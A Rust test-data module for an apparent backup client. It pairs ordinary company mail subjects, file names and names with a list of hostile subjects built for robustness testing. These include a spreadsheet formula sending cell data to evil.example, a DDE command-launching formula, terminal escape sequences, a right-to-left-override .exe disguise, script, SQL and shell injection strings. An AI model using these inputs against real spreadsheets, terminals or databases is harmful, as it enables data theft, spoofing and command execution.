//! Texts in two styles: as in a company, and hostile ones, which are unusual mail subjects and attacks on
//! readers of reports. A client shows or stores every one of them somewhere.

/// Hostile subjects of mail, which events and reasons use in turn.
pub(crate) const SUBJECTS: &[&str] = &[
    "Quarterly report",
    "Re: \"final\", really \"final\" figures, 'v2'",
    "Two lines\nof one subject\r\nand a third",
    "Tab\tseparated\tvalues",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{645}\u{631}\u{62d}\u{628}\u{627} mixed with left-to-right",
    "Zalgo: Z\u{351}\u{36b}\u{343}a\u{329}\u{346}l\u{34a}\u{340}g\u{317}o\u{321}, cafe\u{301}",
    "invoice_\u{202e}fdp.exe",
    "Family \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} and a flag \u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
    "\u{1b}[31mRED ALERT\u{1b}[0m, still red?",
    "\u{1b}]0;owned\u{7}title of your terminal",
    "C1 control: \u{9b}31m eight bits",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1 for lunch",
    "-1 from me",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    LONG,
    "\u{fffd}\u{feff}zero\u{200b}width\u{2028}line",
    "   leading and trailing spaces   ",
    "null",
    "<script>alert(1)</script> & <b>bold</b>",
    "\u{4f1a}\u{8bae}\u{7eaa}\u{8981} \u{30d0}\u{30c3}\u{30af}\u{30a2}\u{30c3}\u{30d7} \u{bc31}\u{c5c5}",
    "Robert'); DROP TABLE items;--",
    "100% %s %n {0} {} $HOME `id` $(id)",
];

/// 300 characters.
const LONG: &str = "A subject of three hundred characters goes on and on and on and on and on and on and on \
and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and \
on and on and on and on and on and on and on and on and on and on and on and on and on, and ended here.";

/// Subjects of mail and posts of a company. The third is that of mail that was deleted in the inbox.
pub(crate) const COMPANY_SUBJECTS: [&str; 17] = [
    "Lunch on Friday?",
    "Re: Offer for 40 workstations",
    "Q3 budget",
    "Minutes of Monday's meeting",
    "Invoice 2026-0417",
    "Holiday plan",
    "Re: Re: Contract renewal",
    "Welcome to the team",
    "Travel expenses October",
    "Project Aurora: status",
    "Fw: Delivery note",
    "Audit: open questions",
    "Change of meeting room",
    "Draft of the press release",
    "Password reset for the print server",
    "Quarterly report",
    "Your order 4500018 was shipped",
];

/// Files of a company.
pub(crate) const COMPANY_FILES: [&str; 15] = [
    "Budget 2026.xlsx",
    "Agenda.docx",
    "Contract M\u{fc}ller GmbH.pdf",
    "Price list.xlsx",
    "Organization chart.pptx",
    "Inventory.csv",
    "Minutes 2026-10-12.docx",
    "Floor plan.pdf",
    "Logo.png",
    "Onboarding checklist.docx",
    "Offer Contoso.docx",
    "Introduction.mp4",
    "Risk assessment.xlsx",
    "Data protection.pdf",
    "Photos summer party.zip",
];

/// First and last names; their numbers have no common divisor, so that 156 pairs differ.
const FIRST_NAMES: [&str; 12] = [
    "Adele", "Alex", "Christie", "Diego", "Grace", "Henrik", "Isaiah", "Johanna", "Lynne", "Megan",
    "Nestor", "Patti",
];
const LAST_NAMES: [&str; 13] = [
    "Bauer",
    "Bowen",
    "Cline",
    "Fernandez",
    "Holm",
    "Keller",
    "Langer",
    "Moreau",
    "Robbins",
    "Siciliani",
    "Tanaka",
    "Vance",
    "Wilke",
];

/// The number of different names of people in a company.
pub(super) const COMPANY_NAMES: usize = FIRST_NAMES.len() * LAST_NAMES.len();

/// The company's text for each hostile one of the generated data.
const COMPANY_TEXTS: [(&str, &str); 27] = [
    (OVER_QUOTA, "Mailbox ana@contoso.example is over its quota"),
    ("Connection lost\tafter 3 retries", "Connection lost after 3 retries"),
    ("Finance, all of it", "Finance"),
    ("Finance, \"all\" of it", "Finance"),
    ("Newcomer", "Trainee"),
    ("\u{4f1a}\u{8bae}", "Meetings"),
    ("Northwind, mail & \"calendar\"", "Northwind mail and calendar"),
    ("Northwind's files, \u{e4}lter", "Northwind file archive"),
    ("P\u{e9}rez, Ana \"Annie\"", "Ana P\u{e9}rez"),
    ("Mail \"on site\", too", "Mail on premises"),
    ("Daily backups, \"hot\"", "Daily backups"),
    ("Audit, \"legal hold\"", "Audit 2025"),
    ("R\u{fc}ckholung 3", "Contract review"),
    ("Contacts, \"all\"", "Contacts"),
    ("People\nand others", "People and suppliers"),
    ("Projects / 2022", "Projects"),
    ("Quarterly, \"final\".xlsx", "Quarterly report.xlsx"),
    ("\u{dc}bersicht 100%.docx", "Project plan.docx"),
    ("invoice_\u{202e}fdp.exe", "Training video.mp4"),
    ("January #1.pdf", "January.pdf"),
    ("Intranet, \"old\"", "Intranet"),
    ("\u{c9}quipe 100%", "\u{c9}quipe Paris"),
    ("A library for files\nof this site", "A library for files of this site"),
    ("Form, \"templates\"", "Form templates"),
    ("Board, \"inner\" circle", "Board"),
    ("Figures, \"draft\"", "Figures"),
    ("Minutes\nand figures", "Minutes and figures"),
];

const OVER_QUOTA: &str = "Mailbox \"ana@contoso.example\" is over its quota;\nnext try in 00:05:00";

/// The style of all texts and sizes.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum TextStyle {
    /// Texts and sizes as in a company.
    Company,
    /// Texts and sizes that break careless readers.
    Hostile,
}

impl TextStyle {
    /// Returns a text of the generated data in this style.
    pub(crate) fn text(self, text: &'static str) -> &'static str {
        let mut texts = COMPANY_TEXTS.iter().filter(|_| self == Self::Company);
        texts.find(|(hostile, _)| *hostile == text).map_or(text, |(_, company)| *company)
    }

    /// Returns a size in bytes in this style: at most 50 MB in a company.
    pub(crate) fn bytes(self, bytes: i64) -> i64 {
        if self == Self::Company { bytes % 50_000_000 } else { bytes }
    }

    /// Returns the subject with a number; numbers wrap around.
    pub(crate) fn subject(self, number: usize) -> &'static str {
        match self {
            Self::Company => COMPANY_SUBJECTS[number % COMPANY_SUBJECTS.len()],
            Self::Hostile => SUBJECTS[number % SUBJECTS.len()],
        }
    }

    /// Returns the scope and the reason of the initial session with a number; every sixth was opened
    /// through the Restore Portal.
    pub(crate) fn portal_scope(self, number: u32) -> Option<(&'static str, &'static str)> {
        let turn = usize::try_from(number / 6).unwrap_or(0);
        let scopes = ["Ana P\u{e9}rez", "Finance, all of it", "https://contoso.example/sites/hr"];
        (number % 6 == 2).then(|| (self.text(scopes[turn % scopes.len()]), self.subject(turn)))
    }

    /// Returns the details of the initial session with a number; every fifth has some.
    pub(crate) fn session_details(self, number: u32) -> Option<&'static str> {
        let turn = usize::try_from(number / 5).unwrap_or(0);
        let details = [
            "Some items were skipped, see the events",
            OVER_QUOTA,
            "Connection lost\tafter 3 retries",
        ];
        (number % 5 == 3).then(|| self.text(details[turn % details.len()]))
    }
}

/// Returns the name of the file with a number in a company; numbers wrap around.
pub(crate) fn company_file(number: usize) -> &'static str {
    COMPANY_FILES[number % COMPANY_FILES.len()]
}

/// Returns the name of a person in a company; numbers wrap around.
pub(crate) fn company_person(number: usize) -> (&'static str, &'static str) {
    (FIRST_NAMES[number % FIRST_NAMES.len()], LAST_NAMES[number % LAST_NAMES.len()])
}

/// The made-up `stackTrace` of a server error in v8.
pub(crate) const TRACE: &str = "\
System.InvalidOperationException: the simulated server is set to fail\r\n   \
at Simulated.Rest.Controllers.SandboxController.Fail(Guid id) in C:/simulated/SandboxController.cs:line 365\r\n   \
at Simulated.Rest.Filters.TraceFilter.OnActionExecutionAsync(ActionContext context, Func`1 next)\r\n\
--- End of stack trace from previous location ---\r\n   \
at Simulated.Rest.Pipeline.InvokeInnerAsync[TResult](Func`1 action, CancellationToken token)\r\n   \
at System.Threading.Tasks.Task.Simulate()\r\n";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_of_hostile_text_is_included() {
        let all = SUBJECTS.concat();
        for character in
            ['"', ',', '\n', '\t', '\u{202e}', '\u{200d}', '\u{1b}', '\u{9b}', '\u{301}']
        {
            assert!(all.contains(character), "{character:?}");
        }
        for start in ["=HYPERLINK", "+1", "-1", "@SUM"] {
            assert!(SUBJECTS.iter().any(|subject| subject.starts_with(start)), "{start}");
        }
        assert!(all.contains("\u{1b}]0;") && all.contains("\u{1b}[31m"));
        assert_eq!(LONG.chars().count(), 300);
    }
}
